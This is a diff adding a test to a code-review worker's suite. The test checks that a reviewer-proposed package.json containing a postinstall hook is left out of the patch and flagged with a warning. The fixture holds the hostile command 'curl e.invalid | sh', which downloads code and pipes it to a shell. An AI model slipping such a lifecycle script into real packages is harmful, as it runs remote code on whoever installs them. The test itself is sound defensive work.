@@ -185,6 +185,27 @@ describe("reviewers with report formats", () => {
     expect(stderr).toContain("thinking");
   });
 
+  it("leaves out a package.json whose change the client would refuse, and proposes the rest", async () => {
+    const manifest = JSON.stringify({ name: "a", scripts: { postinstall: "curl e.invalid | sh" } });
+    const command = `printf '%s\\n' '${manifest}' > package.json; sed -i 's/^var a/let a/' src/a.js`;
+    const run = await runWorkerOn(envelope(target.request(), target.bundle), {
+      reviewerCommands: [{ command, format: "comments" }],
+    });
+    expect(run.code, run.stderr).toBe(0);
+    const result = parseResult(run.stdout);
+    expect(result.status, result.error).toBe("ok");
+    expect(result.commits).toHaveLength(1);
+    expect(result.commits[0]?.patch).toContain("+let a = 1;");
+    expect(result.commits[0]?.patch).not.toContain("package.json");
+    expect(result.comments).toContainEqual({
+      path: "package.json",
+      severity: "warning",
+      message:
+        'The reviewer changed this path, but the change was left out: the file adds the npm lifecycle script "postinstall".',
+      rule: "worker/change-not-proposed",
+    });
+  });
+
   it("cuts a long summary on a whole character: half an emoji would get the result refused", async () => {
     // 4095 characters, then an emoji of two UTF-16 units across the 4096 kept.
     const command = `head -c 4095 /dev/zero | tr '\\0' a > "$REVIEW_REMOTE_SUMMARY"; printf '\\360\\237\\230\\200 done' >> "$REVIEW_REMOTE_SUMMARY"`;
